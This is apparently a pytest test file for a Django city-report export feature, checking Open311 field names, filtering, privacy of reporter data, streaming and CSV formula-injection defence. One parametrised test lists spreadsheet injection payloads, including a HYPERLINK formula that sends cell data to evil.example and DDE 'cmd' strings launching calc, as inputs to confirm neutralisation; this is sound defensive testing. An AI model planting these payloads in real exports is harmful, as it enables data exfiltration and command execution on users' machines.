"""Exports: exactly the filtered reports, Open311 field names, public fields only, streamed."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any, cast

import pytest
from django.db.models.query import QuerySet
from django.test import Client

from geo_klik.analytics import exports, filters
from tests.analytics.conftest import BARAT, NOW, TIMUR, History, Personas

pytestmark = pytest.mark.django_db


@pytest.fixture
def planner(personas: Personas) -> Client:
    client = Client()
    client.force_login(cast(Any, personas.planner))
    return client


@pytest.fixture
def mixed(history: History) -> dict[str, Any]:
    return {
        "resolved": history.add(BARAT, "road_damage", ack_h=1, resolve_h=3),
        "open": history.add(BARAT, "road_damage", reporter_name="Siti Rahma"),
        "crime": history.add(TIMUR, "crime", description="dompet dicuri di depan rumah no 5"),
        "old": history.add(BARAT, "road_damage", created=NOW - timedelta(days=45)),
    }


def read_csv(response: Any) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def read_geojson(response: Any) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(b"".join(response.streaming_content))
    return body


def test_it_uses_the_open311_field_names(planner: Client, mixed: dict[str, Any]) -> None:
    response = planner.get("/planner/export/reports.csv")
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert list(rows[0]) == list(exports.OPEN311_FIELDS)
    by_id = {row["service_request_id"]: row for row in rows}
    resolved = by_id[mixed["resolved"].tracking_code]
    assert resolved["status"] == "closed"
    assert resolved["service_code"] == "road_damage"
    assert resolved["agency_responsible"] == "dinas-pupr"
    assert by_id[mixed["open"].tracking_code]["status"] == "open"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", {"resolved", "open", "crime"}),
        ("?dari={old}", {"resolved", "open", "crime", "old"}),
        ("?kategori=crime", {"crime"}),
        ("?status=resolved", {"resolved"}),
        ("?status=routed&kategori=road_damage", {"open"}),
        ("?skpd=dinas-pupr", {"resolved", "open"}),
        ("?skpd=polsek-timur&kategori=road_damage", set()),
    ],
)
def test_it_exports_exactly_the_filtered_reports(
    planner: Client, mixed: dict[str, Any], query: str, expected: set[str]
) -> None:
    query = query.format(old=(NOW - timedelta(days=50)).date().isoformat())
    codes = {mixed[name].tracking_code for name in expected}
    rows = read_csv(planner.get("/planner/export/reports.csv" + query))
    assert {row["service_request_id"] for row in rows} == codes
    features = read_geojson(planner.get("/planner/export/reports.geojson" + query))["features"]
    assert {f["id"] for f in features} == codes


def test_it_exports_the_same_reports_the_figures_count(
    planner: Client, mixed: dict[str, Any], history: History
) -> None:
    history.refresh()
    counts = planner.get("/planner/api/choropleth.json?kategori=road_damage").json()
    rows = read_csv(planner.get("/planner/export/reports.csv?kategori=road_damage"))
    assert sum(row["reports"] for row in counts) == len(rows) == 2


def test_it_publishes_only_public_fields(planner: Client, mixed: dict[str, Any]) -> None:
    response = planner.get("/planner/export/reports.geojson")
    assert response["Content-Type"].startswith("application/geo+json")
    body = read_geojson(response)
    text = json.dumps(body)
    assert "Siti Rahma" not in text
    assert "dompet" not in text  # a crime's own words are not published
    crime = next(f for f in body["features"] if f["id"] == mixed["crime"].tracking_code)
    lon, lat = crime["geometry"]["coordinates"]
    assert lat == round(lat, 3) and lon == round(lon, 3)  # about 110 m
    assert crime["properties"]["address"] in ("", "Kel. Timur Utara")


def test_it_streams_from_a_server_side_cursor_in_chunks(
    planner: Client, history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    for _ in range(7):
        history.add(BARAT, "road_damage")
    chunk_sizes: list[int] = []
    original = QuerySet.iterator

    def spy(self: QuerySet[Any], chunk_size: int | None = None) -> Any:
        chunk_sizes.append(chunk_size or 0)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    lines = exports.csv_lines(filters.last_days(30), chunk_size=3)
    assert next(lines) == "\ufeff"
    assert next(lines).startswith("service_request_id,")
    assert chunk_sizes == []  # nothing is read before the first report is asked for
    assert next(lines).count(",") == len(exports.OPEN311_FIELDS) - 1
    assert chunk_sizes == [3]
    assert len(list(lines)) == 6
    response = planner.get("/planner/export/reports.csv")
    assert response.streaming
    assert not hasattr(response, "content")  # never rendered into one string
    assert len(read_csv(response)) == 7


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(
    planner: Client, history: History, hostile: str
) -> None:
    report = history.add(BARAT, "road_damage", description=hostile, address=hostile)
    rows = read_csv(planner.get("/planner/export/reports.csv"))
    row = next(r for r in rows if r["service_request_id"] == report.tracking_code)
    assert row["description"] == "'" + hostile
    assert row["address"] == "'" + hostile
    assert float(row["lat"]) < 0  # a negative number stays a number


def test_it_leaves_ordinary_text_alone(planner: Client, history: History) -> None:
    report = history.add(BARAT, "road_damage", description="Jalan berlubang = bahaya")
    rows = read_csv(planner.get("/planner/export/reports.csv"))
    row = next(r for r in rows if r["service_request_id"] == report.tracking_code)
    assert row["description"] == "Jalan berlubang = bahaya"
